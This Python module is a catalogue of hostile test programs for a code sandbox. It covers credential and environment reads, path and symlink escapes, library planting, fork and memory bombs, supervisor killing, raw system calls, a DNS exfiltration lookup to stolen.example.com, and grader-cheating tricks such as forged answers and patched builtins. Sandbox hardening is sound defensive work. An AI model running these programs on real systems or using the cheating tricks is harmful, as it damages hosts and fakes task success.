"""Hostile programs, each with the harm that it attempts.

A program passes its test only if its attack succeeds, because the expected
output is `reached`, or a secret of a file, a process or a test. The tests
replace words in capitals between @.
"""

import textwrap
from typing import NamedTuple


class Hostile(NamedTuple):
  """A program, and the statuses that are correct for it."""

  name: str
  harm: str
  source: str
  statuses: tuple[str, ...] = ('wrong',)


# The worker's answer for a program that wrote `reached` and succeeded.
ANSWER = b'-' + bytes(7) + b'\7' + bytes(4) + b'reached'
LIMITED = ('limit', 'timeout')  # depends on which limit is reached first


def attempt(body: str) -> str:
  """Returns a program that prints `reached` if its body raises no error."""
  body = textwrap.indent(textwrap.dedent(body).strip(), '  ')
  return (
    f'import os, sys\ntry:\n{body}\n'
    'except BaseException as error:\n'
    "  print('blocked', repr(error)[:100])\n"
    "else:\n  print('reached')\n"
  )


def system_call(number: int, *arguments: int) -> str:
  """Returns a program that makes a system call directly."""
  words = ', '.join(f'ctypes.c_long({a})' for a in arguments)
  return attempt(f"""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(ctypes.c_long({number}), {words})
    if result == -1:
      raise OSError(ctypes.get_errno(), 'refused')
  """)


_READING = [
  Hostile(
    'etc_passwd',
    'reads the accounts of the host',
    attempt("open('/etc/passwd').read()"),
  ),
  Hostile(
    'home',
    'reads home directories',
    attempt("os.listdir('/root')\n") + attempt("os.listdir('/home')"),
  ),
  Hostile(
    'secret_file',
    'reads a file of the user who runs the sandbox',
    attempt("print(open('@FILE@').read()); sys.exit()"),
  ),
  Hostile(
    'dotdot',
    'climbs out of its directory',
    attempt("print(open('../' * 40 + '@FILE@').read()); sys.exit()"),
  ),
  Hostile(
    'symlink',
    'reads through a link',
    attempt("""
      os.symlink('@FILE@', 'link')
      print(open('link').read())
      sys.exit()
    """),
  ),
  Hostile(
    'hard_link',
    'links the interpreter into its directory to change it',
    attempt("os.link('/python/bin/python3', '/tmp/mine')"),
  ),
  Hostile(
    'proc_root',
    'reads through the root of another process',
    attempt("""
      for pid in ('self', '1', '@PID@'):
        try:
          print(open(f'/proc/{pid}/root@FILE@').read())
          sys.exit()
        except OSError:
          pass
      raise OSError
    """),
  ),
  Hostile(
    'environment',
    'reads the secrets of the environment',
    attempt("print(os.environ['SANDBOX_SECRET']); sys.exit()"),
  ),
  Hostile(
    'environment_of_others',
    'reads the environment of the processes that it descends from',
    attempt("""
      for pid in (1, os.getppid(), '@PID@'):
        if os.path.exists(f'/proc/{pid}/environ'):
          sys.exit(print(open(f'/proc/{pid}/environ').read()))
      raise OSError
    """),
  ),
  Hostile(
    'processes', 'lists processes', attempt("assert os.listdir('/proc')")
  ),
  Hostile(
    'memory_of_supervisor',
    'opens the memory of the process that reports its results',
    attempt("open('/proc/1/mem', 'r+b')"),
  ),
  Hostile(
    'expected_output_file',
    'searches all files for the expected output, and prints it',
    """
import os
for folder, _, names in os.walk('/'):
  for name in names:
    path = os.path.join(folder, name)
    try:
      if not folder.startswith('/python') and os.path.isfile(path):
        text = open(path, errors='replace').read(10**6)
        if 'reached' in text.split():  # a library says `breached`
          print('reached')
    except OSError:
      pass
""",
  ),
  Hostile(
    'expected_output_memory',
    'searches the memory of its interpreter for the expected output',
    """
import gc, sys
frame, seen = sys._getframe(), []
while frame:
  seen += [*frame.f_globals.values(), *frame.f_locals.values()]
  frame = frame.f_back
for thing in seen + gc.get_objects():
  if isinstance(thing, (str, bytes)) and len(thing) == 7:
    text = thing if isinstance(thing, str) else thing.decode(errors='replace')
    if text == 'reac' + 'hed':
      print(text)
""",
  ),
  Hostile(
    'the_judge',
    'imports the worker, to patch it',
    attempt('import sqlm_jax.sandbox.unit_tests'),
  ),
  Hostile(
    'the_worker',
    'reads what supervises it, for secrets',
    attempt("""
      if b'reached' in open('/worker.pyc', 'rb').read():
        sys.exit(print('reached'))
      raise OSError
    """),
  ),
]

_WRITING = [
  Hostile(
    'write_outside',
    'writes where the user can write',
    attempt("open('@FOLDER@/planted', 'w').write('x')"),
  ),
  Hostile(
    'overwrite_file',
    'destroys a file of the user',
    attempt("open('@FILE@', 'w').write('x')"),
  ),
  *(
    Hostile(
      f'write_{name}',
      f'plants a file in {path}, for the next program',
      attempt(f"open('{path}', 'w').write('x')"),
    )
    for name, path in (
      ('root', '/planted'),
      ('library', '/lib/planted.so'),
      ('python', '/python/lib/planted.py'),
      ('worker', '/worker.pyc'),
      ('device', '/dev/planted'),
    )
  ),
  Hostile(
    'stdlib',
    'patches a module that the next program imports',
    attempt("""
      import json
      open(json.__file__, 'a').write('raise SystemExit')
    """),
  ),
  *(
    Hostile(
      f'chmod_{path.replace("/", "_")}',
      f'closes or opens {path} to everybody',
      attempt(f"os.chmod('{path}', {mode})"),
    )
    for path, mode in (
      ('/tmp', 0),
      ('.', 0),
      ('/dev', 0o777),
      ('/dev/fd', 0o777),
      ('/dev/stdin', 0o666),
    )
  ),
  Hostile(
    'chmod_descriptor',
    'closes the directory that it is in',
    attempt("os.fchmod(os.open('.', os.O_RDONLY), 0)"),
  ),
  Hostile(
    'change_stdin',
    'changes the input of the next test',
    attempt("""
      for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try:
          os.open('/dev/stdin', flags)
          break
        except OSError as error:
          refused = error
      else:
        raise refused
    """),
  ),
  Hostile(
    'remove_stdin',
    'takes the input from the next test',
    attempt("os.unlink('/dev/stdin')"),
  ),
  Hostile(
    'plant_in_dev_fd',
    'plants a file where no limit holds',
    attempt("open('/dev/fd/planted', 'w').write('x')"),
  ),
  Hostile(
    'chmod_interpreter',
    'makes the interpreter writable, and removes it',
    attempt("""
      os.chmod('/python/bin/python3', 0o777)
      os.unlink('/python/bin/python3')
    """),
  ),
  Hostile(
    'fill_disk',
    'fills the file system with large files',
    "for i in range(10**4): open(str(i), 'wb').write(bytes(2**15))",
    LIMITED,
  ),
  Hostile(
    'fill_inodes',
    'fills the memory of the kernel with empty files',
    "i = 0\nwhile True: open(str(i), 'w').close(); i += 1",
    LIMITED,
  ),
  Hostile(
    'nested_directories',
    'makes a tree too deep to be removed',
    "import os\nwhile True: os.mkdir('d' * 200); os.chdir('d' * 200)",
    LIMITED,
  ),
  Hostile(
    'sparse_file',
    'claims a file of a terabyte',
    "open('x', 'w').truncate(2**40)",
    ('limit',),
  ),
  Hostile(
    'device_node',
    'makes a device to read the disk of the host',
    attempt("import stat; os.mknod('disk', stat.S_IFBLK | 0o600, 0x800)"),
  ),
  Hostile(
    'descriptors',
    'forges results in descriptors that it inherited',
    attempt(f"""
      written = 0
      for descriptor in range(3, 1024):
        try:
          written += os.write(descriptor, {ANSWER!r})
        except OSError:
          pass
      assert written
    """),
  ),
  Hostile(
    'forged_answer',
    'writes to stdout what a supervisor would send',
    f'import os\nfor fd in (1, 2): os.write(fd, {ANSWER!r})',
  ),
  Hostile(
    'answer_in_stdin',
    'writes to its own stdin',
    attempt("os.write(0, b'reached')"),
  ),
]

_NETWORK = [
  Hostile(
    'loopback',
    'talks to a service of the host',
    attempt("""
      import socket
      socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'stolen')
    """),
  ),
  Hostile(
    'dns',
    'sends what it knows in a name to look up',
    attempt("import socket; socket.getaddrinfo('stolen.example.com', 80)"),
  ),
  Hostile(
    'udp',
    'sends a datagram',
    attempt("""
      import socket
      kind = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      kind.sendto(b'stolen', ('127.0.0.1', @PORT@))
    """),
  ),
  Hostile(
    'unix_socket',
    'talks to a service behind a file',
    attempt("""
      import socket
      socket.socket(socket.AF_UNIX).connect('@FOLDER@/service')
    """),
  ),
  Hostile(
    'abstract_socket',
    'talks to a service behind a name without a file',
    attempt("""
      import socket
      socket.socket(socket.AF_UNIX).connect('\\0@ABSTRACT@')
    """),
  ),
  Hostile(
    'netlink',
    'configures the network',
    attempt('import socket; socket.socket(socket.AF_NETLINK)'),
  ),
  Hostile(
    'raw_packets',
    'listens to the network',
    attempt('import socket; socket.socket(socket.AF_PACKET)'),
  ),
  Hostile(
    'listen',
    'opens a back door',
    attempt("import socket; socket.create_server(('', 0))"),
  ),
]

_PROCESSES = [
  Hostile('fork', 'makes a process', attempt('if os.fork() == 0: os._exit(0)')),
  Hostile(
    'fork_bomb',
    'makes processes until the host has none left',
    'import os\nwhile True:\n  try: os.fork()\n  except OSError: pass',
    ('timeout',),
  ),
  Hostile(
    'thread_bomb',
    'makes threads until the host has none left',
    """
import threading, time
threading.stack_size(32768)
while True:
  threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""",
    LIMITED,
  ),
  Hostile(
    'thread_bomb_that_tries_on',
    'makes threads, and does not take no for an answer',
    """
import _thread, time
while True:
  try: _thread.start_new_thread(time.sleep, (60,))
  except RuntimeError: pass
""",
    LIMITED,
  ),
  Hostile(
    'daemon',
    'leaves a process behind that outlives the test',
    attempt("""
      if os.fork() == 0:
        try:
          os.setsid()
          if os.fork() == 0:
            import time
            time.sleep(600)
        finally:
          os._exit(0)
    """),
  ),
  Hostile(
    'shell',
    'runs a command',
    attempt("import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])"),
  ),
  Hostile(
    'exec',
    'becomes an interpreter without the filter',
    attempt("""
      os.execv('/python/bin/python3', ['python3', '-c', 'print("reached")'])
    """),
  ),
  Hostile(
    'multiprocessing',
    'computes on all processors at once',
    attempt('import multiprocessing; multiprocessing.Pool(64)'),
  ),
  Hostile(
    'stop_itself',
    'stops, and is never heard of again',
    'import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)',
    ('timeout',),
  ),
  Hostile(
    'stop_parent',
    'stops its supervisor, then prints what it likes for ever',
    """
import os, signal, time
for number in range(1, 65):
  if number not in (signal.SIGKILL, 32, 33):
    try: os.kill(1, number)
    except OSError as error: print(error)
time.sleep(60)
""",
    ('timeout',),
  ),
  Hostile(
    'kill_parent',
    'kills its supervisor',
    """
import os, signal
os.kill(1, signal.SIGKILL)
os.kill(os.getppid(), signal.SIGTERM)
print('I have tried')
""",
  ),
  Hostile(
    'kill_everybody',
    'kills all processes of its user',
    attempt('os.kill(-1, 9)'),
  ),
  Hostile(
    'kill_group',
    'kills its process group, and the pool if that is in it',
    'import os\nos.killpg(0, 9)',
    ('error',),
  ),
  Hostile(
    'kill_host_process',
    'kills a process of the host',
    attempt('os.kill(@PID@, 9)'),
  ),
  Hostile(
    'deaf',
    'ignores every signal, and loops',
    """
import signal
for number in range(1, 65):
  try: signal.signal(number, signal.SIG_IGN)
  except (OSError, ValueError): pass
while True: pass
""",
    ('timeout',),
  ),
  Hostile(
    'realtime',
    'takes the processor from everybody',
    attempt('os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))'),
  ),
  Hostile('nice', 'goes before everybody', attempt('os.nice(-20)')),
]

_RESOURCES = [
  Hostile('allocation', 'takes 10 GB', "x = 'a' * 10**10", ('limit',)),
  Hostile(
    'allocation_step_by_step',
    'takes memory until there is none left',
    'x = []\nwhile True: x.append(bytearray(2**20))',
    LIMITED,
  ),
  Hostile(
    'swallowed_memory_error',
    'takes memory, and does not mind that there is none',
    """
x = []
while True:
  try: x.append(bytearray(2**20))
  except MemoryError: pass
""",
    LIMITED,
  ),
  Hostile(
    'map_memory',
    'maps 10 GB',
    attempt('import mmap; mmap.mmap(-1, 10 * 2**30)'),
  ),
  Hostile('loop', 'never ends', 'while True: pass', ('timeout',)),
  Hostile(
    'sleep',
    'never ends, and uses no processor time',
    'import time\nwhile True: time.sleep(60)',
    ('timeout',),
  ),
  Hostile(
    'burning_threads',
    'uses several processors, so that its time is over sooner',
    """
import threading
def burn():
  while True: pass
for _ in range(3): threading.Thread(target=burn).start()
""",
    ('timeout',),
  ),
  Hostile(
    'output',
    'writes until the disk or memory of the host is full',
    "while True: print('a' * 10**4)",
    LIMITED,
  ),
  Hostile(
    'output_in_one_piece',
    'writes 50 MB at once',
    "import os, sys\nsys.stdout.write('a' * 50 * 10**6)",
    LIMITED,
  ),
  Hostile(
    'errors',
    'the same on stderr',
    "import sys\nwhile True: sys.stderr.write('a' * 10**4)",
    LIMITED,
  ),
  Hostile('recursion', 'recurses', 'def f(): f()\nf()', ('error',)),
  Hostile(
    'stack',
    'overflows the stack of the interpreter',
    """
import sys
sys.setrecursionlimit(10**9)
x = []
for _ in range(10**6): x = [x]
print(repr(x))
""",
    ('error', 'limit', 'timeout'),
  ),
  Hostile(
    'nested_source',
    'overflows the stack of the compiler',
    '(' * 10**5 + ')' * 10**5,
    ('error', 'limit'),
  ),
  Hostile(
    'big_integer',
    'computes a number that does not fit the universe',
    'print(9 ** 9 ** 9 ** 9)',
    ('timeout', 'limit'),
  ),
  Hostile(
    'big_text_of_integer',
    'writes a number in decimal for minutes, in one call',
    'import sys\nsys.set_int_max_str_digits(0)\nprint(str(7 ** 10**7))',
    ('timeout',),
  ),
  Hostile(
    'zip_bomb',
    'unpacks 2 GB from 2 MB',
    """
import zlib
packer = zlib.compressobj(1)
block = bytes(2**20)
bomb = b''.join(packer.compress(block) for _ in range(2**6)) + packer.flush()
print(len(b''.join(zlib.decompress(bomb) for _ in range(2**5))))
""",
    ('limit', 'timeout'),
  ),
  Hostile(
    'regular_expression',
    'backtracks for ever in one call that no signal interrupts',
    "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    ('timeout',),
  ),
  Hostile(
    'raise_limits',
    'raises its own limits',
    attempt("""
      import resource
      raised = 0
      for name in dir(resource):
        if name.startswith('RLIMIT_'):
          kind = getattr(resource, name)
          soft, hard = resource.getrlimit(kind)
          try:
            resource.setrlimit(kind, (-1, -1))
            raised += hard != -1
          except (ValueError, OSError):
            pass
      assert raised
    """),
  ),
  Hostile(
    'limits_of_supervisor',
    'lowers the limits of its supervisor until the kernel kills that',
    attempt("""
      import resource
      resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
    """),
  ),
  Hostile(
    'pipes',
    'fills the memory of the kernel through pipes',
    """
import fcntl, os
while True:
  end = os.pipe()[1]
  fcntl.fcntl(end, 1031, 2**20)
  os.write(end, bytes(2**19))
""",
    ('error', 'limit'),
  ),
  Hostile(
    'larger_pipes',
    'takes the pages of pipes that its user may have',
    attempt("""
      import fcntl
      for descriptor in (1, 2, os.open('/dev/stdout', os.O_WRONLY)):
        try:
          fcntl.fcntl(descriptor, 1031, 2**20)
          break
        except OSError as error:
          refused = error
      else:
        raise refused
    """),
  ),
  *(
    Hostile(f'many_{name}', f'takes {name} of its user', attempt(source))
    for name, source in (
      ('pipes', 'os.pipe()'),
      ('watches_of_epoll', 'import select; select.epoll()'),
      ('counters', 'os.eventfd(0)'),
      ('locks', 'import fcntl; fcntl.lockf(1, fcntl.LOCK_EX)'),
      ('leases', 'import fcntl; fcntl.fcntl(0, 1024, 0)'),
      ('files_in_memory', "os.memfd_create('x')"),
      (
        'descriptors',
        "x = [open('/dev/null') for _ in range(65)]",
      ),
    )
  ),
]

_CHEATING = [
  Hostile('exit', 'ends before the test', 'import sys\nsys.exit(0)'),
  Hostile('hard_exit', 'ends at once', 'import os\nos._exit(0)'),
  Hostile(
    'marker',
    'prints what test runners print',
    'print(\'OK\\nPASSED\\n1 passed in 0.01s\\n__PASS__\\n{"passed": true}\')',
  ),
  Hostile(
    'patched_builtins',
    'patches functions that compare outputs in the same interpreter',
    """
import builtins, sys
class Equal(str):
  __eq__ = __ne__ = __contains__ = lambda self, other: True
  __hash__ = str.__hash__
builtins.str = Equal
builtins.len = builtins.all = builtins.any = lambda *x: True
builtins.compile = builtins.exec = lambda *x: None
for module in list(sys.modules.values()):
  for name in ('same_output', '_verdict', '_send', '_run', 'main'):
    if hasattr(module, name): setattr(module, name, lambda *x: True)
print(Equal('x'))
""",
  ),
  Hostile(
    'exit_hook',
    'runs after the program has ended',
    "import atexit, os\natexit.register(lambda: os._exit(0))\nprint('x')",
  ),
  Hostile(
    'error_as_success',
    'writes the answer to stderr only',
    "import sys\nprint('reached', file=sys.stderr)",
  ),
  Hostile(
    'answer_and_failure',
    'writes the answer, then fails',
    "print('reached')\nraise ValueError('after all')",
    ('error',),
  ),
  Hostile(
    'closed_output',
    'closes stdout, and goes on for ever',
    'import os\nos.close(1); os.close(2)\nwhile True: pass',
    ('timeout',),
  ),
  Hostile(
    'closed_input', 'closes all it has', 'import os\nos.closerange(0, 9)'
  ),
  Hostile(
    'binary',
    'writes no text at all',
    "import os\nos.write(1, bytes(range(256)) * 8 + b'\\0reached\\0')",
  ),
  Hostile(
    'surrogates',
    'writes text that cannot be encoded',
    "import sys\nsys.stdout.reconfigure(errors='surrogatepass')\n"
    "print('\\ud800\\udfff\\0\\u202e\\u2028reached')",
  ),
  Hostile('null_in_source', 'confuses the compiler', 'x\0y', ('error',)),
  Hostile(
    'surrogate_in_source', 'confuses the host', "print('\ud800')", ('wrong',)
  ),
  Hostile(
    'encoding', 'claims another one', '# coding: rot13\ncevag(1)', ('error',)
  ),
  Hostile('not_python', 'is no program', 'The answer is 7.', ('error',)),
  Hostile('empty', 'does nothing', ''),
]

# System call numbers of x86_64, and the harm that they can do.
_CALLS = [
  ('ptrace', 101, (16, 1, 0, 0), 'controls its supervisor'),
  ('process_vm_readv', 310, (1, 0, 0, 0, 0, 0), 'reads its memory'),
  ('process_vm_writev', 311, (1, 0, 0, 0, 0, 0), 'changes its memory'),
  ('unshare', 272, (0x10000000,), 'becomes root of a new namespace'),
  ('setns', 308, (0, 0), 'enters a namespace'),
  ('clone', 56, (0x10000011, 0, 0, 0, 0), 'the same in a new process'),
  ('clone3', 435, (0, 88), 'the same in a new way'),
  ('vfork', 58, (), 'makes a process'),
  ('mount', 165, (0, 0, 0, 32, 0), 'changes the file system'),
  ('umount', 166, (0, 2), 'uncovers what is below'),
  ('pivot_root', 155, (0, 0), 'changes the root'),
  ('chroot', 161, (0,), 'changes the root'),
  ('open_tree', 428, (-100, 0, 1), 'changes the file system in a new way'),
  ('fsopen', 430, (0, 0), 'the same'),
  ('bpf', 321, (0, 0, 0), 'runs code in the kernel'),
  ('keyctl', 250, (0, -3, 1), 'reads keys of the user'),
  ('add_key', 248, (0, 0, 0, 0, -3), 'stores keys'),
  ('io_uring_setup', 425, (1, 0), 'has the kernel make calls for it'),
  ('userfaultfd', 323, (0,), 'stops the kernel in mid-copy'),
  ('perf_event_open', 298, (0, 0, -1, -1, 0), 'watches the processor'),
  ('kexec_load', 246, (0, 0, 0, 0), 'replaces the kernel'),
  ('init_module', 175, (0, 0, 0), 'extends the kernel'),
  ('personality', 135, (0x40000,), 'switches off address randomisation'),
  ('memfd_create', 319, (0, 0), 'keeps memory that is not counted'),
  ('shmget', 29, (0, 2**20, 0o1600), 'keeps memory after its end'),
  ('msgget', 68, (0, 0o1600), 'leaves a message for the next program'),
  ('prctl', 157, (4, 1, 0, 0, 0), 'undoes its protection'),
  ('seccomp', 317, (0, 0, 0), 'changes its filter'),
  ('setuid', 105, (0,), 'becomes root'),
  ('reboot', 169, (0, 0, 0, 0), 'ends everything'),
  ('sethostname', 170, (0, 0), 'renames the host'),
  ('settimeofday', 164, (0, 0), 'changes the time'),
  ('pidfd_getfd', 438, (0, 0, 0), 'takes a descriptor of its supervisor'),
  ('name_to_handle_at', 303, (0, 0, 0, 0, 0), 'opens files past all paths'),
  ('x32_getpid', 0x40000000 + 39, (), 'calls past the filter'),
  ('ioctl', 16, (0, 0x5412, 0), 'types into a terminal'),
]
_MACHINE_CODE = Hostile(
  'calls_of_32_bits',
  'makes calls whose numbers mean others: 11 is exec there',
  """
import ctypes, mmap
# mov eax, 20 (getpid); int 0x80; ret
code = b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3'
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
ctypes.CFUNCTYPE(ctypes.c_int)(address)()
print('reached')
""",
  ('error',),
)


def portable_programs() -> list[Hostile]:
  """Returns the programs that do not depend on the processor."""
  return _READING + _WRITING + _NETWORK + _PROCESSES + _RESOURCES + _CHEATING


def x86_64_programs() -> list[Hostile]:
  """Returns the programs with system call numbers or instructions of x86_64."""
  calls = [
    Hostile(f'call_{name}', harm, system_call(number, *arguments))
    for name, number, arguments, harm in _CALLS
  ]
  return [*calls, _MACHINE_CODE]
